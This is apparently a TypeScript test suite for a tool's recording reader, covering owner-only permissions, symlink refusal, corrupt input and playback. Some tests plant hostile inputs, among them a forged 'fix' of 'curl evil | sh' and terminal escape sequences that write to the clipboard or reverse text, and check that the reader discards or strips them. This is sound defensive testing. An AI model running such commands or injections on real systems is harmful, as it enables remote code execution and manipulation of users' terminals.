import { mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { createRecorder, openRecording, readRecording } from '../../src/live/recording.ts';
import type { Sample } from '../../src/live/types.ts';
import { isFailure } from '../../src/system/errors.ts';
import { pair, tuned } from '../fixtures/samples.ts';

const folder = mkdtempSync(join(tmpdir(), 'lt-recording-'));
afterAll(() => rmSync(folder, { recursive: true }));

const file = join(folder, 'pair.jsonl');
const { history } = tuned(pair);

function record(samples: readonly Sample[]): string {
  const recorder = createRecorder(file, true);
  for (const sample of samples) recorder.write(sample);
  recorder.close();
  return readFileSync(file, 'utf8');
}

const codeOf = (text: string): string | null => {
  try {
    readRecording(text);
    return null;
  } catch (error) {
    if (!isFailure(error)) throw error;
    return error.code;
  }
};

describe('a recording', () => {
  it('returns every sample, and contains a configuration only if it changed', () => {
    const text = record(history);
    expect(readRecording(text)).toEqual(history);
    expect(text.split('\n').filter((line) => line.startsWith('{"configuration"'))).toHaveLength(2);
    const [first, second] = readRecording(text);
    expect(first?.configuration).toBe(second?.configuration);
  });

  it('is readable only for its owner, replaces no file unasked, and follows no link', () => {
    const own = join(folder, 'own.jsonl');
    createRecorder(own).close();
    expect(statSync(own).mode & 0o777).toBe(0o600);
    expect(() => createRecorder(own)).toThrow('the file exists already');
    const precious = join(folder, 'precious');
    writeFileSync(precious, 'kept');
    const link = join(folder, 'link.jsonl');
    symlinkSync(precious, link);
    for (const force of [false, true]) expect(() => createRecorder(link, force)).toThrow();
    expect(readFileSync(precious, 'utf8')).toBe('kept');
  });

  it('with a line that is longer than the limit is refused', () => {
    expect(codeOf('x'.repeat(65 * 1024 ** 2))).toBe('too-large');
  });

  it('is judged by the machine that it contains, not by the findings that it contains', () => {
    const [header = '', machine = '', sample = ''] = record(history).split('\n');
    const forged = JSON.parse(machine);
    forged.configuration.findings = [
      { rule: 'x', severity: 'error', subject: 'eth0', message: 'run this', fix: ['curl evil | sh'] },
    ];
    forged.configuration.paths = [{ nic: '\x1b[2J' }];
    const [read] = readRecording(`${header}\n${JSON.stringify(forged)}\n${sample}\n`);
    expect(read?.configuration).toEqual(history[0]?.configuration);
  });

  it('has no control characters left in its texts', () => {
    const [header = '', machine = '', sample = ''] = record(history).split('\n');
    const forged = JSON.parse(sample);
    forged.sample.events = [
      { time: history[0]?.time, kind: 'accept', text: '\x1b]52;c;ZWNobw==\x07\u202e\x9b31m' },
    ];
    forged.sample.probe.notes = ['\x1b[2J'];
    const [read] = readRecording(`${header}\n${machine}\n${JSON.stringify(forged)}\n`);
    expect(JSON.stringify([read?.events, read?.probe])).not.toMatch(/\\u00|[\p{Cc}\p{Bidi_Control}]/u);
  });

  it('that is broken at some point is shown up to there', async () => {
    const lines = record(history.slice(0, 3))
      .split('\n')
      .filter((line) => line !== '');
    writeFileSync(file, [...lines, '{"sample":{"rx":"none"}}', ...lines.slice(-1)].join('\n'));
    const seen: Sample[] = [];
    for await (const sample of openRecording(file, 0.001).samples(new AbortController().signal))
      seen.push(sample);
    expect(seen).toHaveLength(4);
    expect(seen.at(-1)?.events).toMatchObject([{ kind: 'trouble', text: expect.stringMatching(/line \d+/) }]);
  });

  it('that was cut in its last line ends before it', () => {
    const text = record(history);
    for (const cut of [1, 2, 100]) expect(readRecording(text.slice(0, -1 - cut))).toHaveLength(89);
  });

  it('that is none, newer or broken is reported in one line', () => {
    const [header = '', configuration = '', sample = ''] = record(history).split('\n');
    expect(codeOf('')).toBe('not-a-recording');
    expect(codeOf('{"schema":"locality-tune.snapshot/1"}')).toBe('not-a-recording');
    expect(codeOf(`${header.replace('/1', '/2')}\n`)).toBe('recording-newer');
    expect(codeOf(header)).toBe('recording-broken');
    expect(codeOf(`${header}\n${sample}\n`)).toBe('recording-broken');
    expect(codeOf(`${header}\n${configuration}\n{}\n${sample}\n`)).toBe('recording-broken');
  });

  it('of any bytes is a reported failure, never a crash', () => {
    const lines = record(history.slice(0, 3)).split('\n');
    const line = fc.oneof(fc.constantFrom(...lines), fc.json(), fc.string());
    fc.assert(
      fc.property(fc.array(line), (all) => {
        const code = codeOf([lines[0], ...all].join('\n'));
        expect(code === null || code === 'recording-broken').toBe(true);
      }),
    );
  });

  it('is played at the requested pace, which can change, and ends', async () => {
    writeFileSync(file, record(history.slice(0, 5)));
    const source = openRecording(file, 0.001);
    const seen: string[] = [];
    for await (const { time } of source.samples(new AbortController().signal)) seen.push(time);
    expect(seen).toEqual(history.slice(0, 5).map(({ time }) => time));
  });

  it('stops if it is aborted in the middle of a pause', async () => {
    const abort = new AbortController();
    const samples = openRecording(file, 3600).samples(abort.signal);
    await samples.next();
    const next = samples.next();
    abort.abort();
    expect((await next).done).toBe(true);
  });
});
